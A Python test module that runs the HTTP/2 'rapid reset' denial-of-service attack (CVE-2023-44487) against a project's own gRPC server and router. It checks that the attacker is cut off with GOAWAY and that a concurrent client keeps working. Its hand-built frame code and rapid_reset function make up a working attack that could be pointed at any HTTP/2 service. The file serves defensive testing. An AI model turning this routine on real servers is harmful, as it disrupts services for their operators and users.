"""HTTP/2 attacks on the gRPC ports of the real servers: "rapid reset" (CVE-2023-44487), streams
opened and cancelled at once in bursts, against `weir serve --grpc-port` and through `weir route`.
The attacking connection is ended with GOAWAY ENHANCE_YOUR_CALM and counted in
`weir_http_protocol_errors_total`; a tritonclient calling beside it the whole time loses no
call. (weir-http's unit tests cover the other attacks frame by frame.)"""
import re
import socket
import struct
import threading
import time
import urllib.request

import numpy as np
import pytest
import tritonclient.grpc as triton

from test_router_grpc import router  # noqa: F401 (the fixture, for this module too)
from test_triton_grpc import GrpcServer

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
END_HEADERS = 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
MODEL_INFER = b"/inference.GRPCInferenceService/ModelInfer"
FEATURES = np.array([[5.1, 3.5, 1.4, 0.2]], dtype=np.float32)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A header that is not indexed, its name static-table entry `index` (below 15), its value
    short and not Huffman-coded (RFC 7541 §6.2.2)."""
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


# POST (static entry 3), http (6), the path and authority as literals, and content-type
# application/grpc (entry 31, past the 4-bit prefix: 15 then 16).
CALL = (bytes([0x83, 0x86]) + literal(4, MODEL_INFER) + literal(1, b"x")
        + bytes([0x0F, 0x10, len(b"application/grpc")]) + b"application/grpc")


def goaway_code(sock):
    """The error code of the GOAWAY the server sends before it closes; None if it closes
    without one."""
    buffer = b""
    while True:
        try:
            chunk = sock.recv(65536)
        except ConnectionResetError:
            chunk = b""
        buffer += chunk
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            kind, payload = buffer[3], buffer[9:9 + length]
            buffer = buffer[9 + length:]
            if kind == GOAWAY:
                return struct.unpack(">I", payload[4:8])[0]
        if not chunk:
            return None


def rapid_reset(address, bursts=100, per_burst=100):
    """Opens and cancels up to bursts × per_burst streams; returns the server's GOAWAY code."""
    host, port = address.rsplit(":", 1)
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        stream = 1
        try:
            for _ in range(bursts):
                burst = bytearray()
                for _ in range(per_burst):
                    burst += frame(HEADERS, END_HEADERS, stream, CALL)
                    burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                sock.sendall(burst)
        except OSError:
            pass  # the server went away mid-attack: the defence at work
        return goaway_code(sock)


class Bystander(threading.Thread):
    """A well-behaved tritonclient calling `grpc_address` until told to stop."""

    def __init__(self, grpc_address):
        super().__init__(daemon=True)
        self.client = triton.InferenceServerClient(url=grpc_address)
        self.stop = threading.Event()
        self.answered, self.failed = 0, []

    def call(self):
        features = triton.InferInput("features", [1, 4], "FP32")
        features.set_data_from_numpy(FEATURES)
        return self.client.infer("iris", [features])

    def run(self):
        while not self.stop.is_set():
            try:
                self.call().as_numpy("label")
                self.answered += 1
            except Exception as error:  # noqa: BLE001 (any failure is the finding)
                self.failed.append(repr(error))

    def finish(self):
        self.stop.set()
        self.join(timeout=30)
        # One more after the attack, so the count cannot be made only of calls before it.
        self.call()
        self.answered += 1


def counter(url, name):
    with urllib.request.urlopen(f"{url}/metrics", timeout=5) as answer:
        text = answer.read().decode()
    match = re.search(rf"^{name} (\S+)$", text, re.MULTILINE)
    assert match, f"no {name} in {url}/metrics"
    return float(match.group(1))


def attack_while_a_bystander_calls(grpc_address, metrics_url, attacks=3):
    before = counter(metrics_url, "weir_http_protocol_errors_total")
    bystander = Bystander(grpc_address)
    bystander.start()
    while bystander.answered == 0 and not bystander.failed:
        time.sleep(0.01)
    codes = [rapid_reset(grpc_address) for _ in range(attacks)]
    bystander.finish()
    assert codes == [ENHANCE_YOUR_CALM] * attacks, codes
    assert bystander.failed == [], bystander.failed[:3]
    assert bystander.answered >= 2
    assert counter(metrics_url, "weir_http_protocol_errors_total") == before + attacks


@pytest.fixture(scope="module")
def grpc_server():
    running = GrpcServer()
    yield running
    running.stop()


def test_rapid_reset_on_serve_ends_the_attacker_and_no_call_beside_it_fails(grpc_server):
    attack_while_a_bystander_calls(grpc_server.grpc_address, grpc_server.url)


def test_rapid_reset_through_the_router_ends_the_attacker_and_no_call_beside_it_fails(router):  # noqa: F811
    attack_while_a_bystander_calls(router.grpc, router.url)
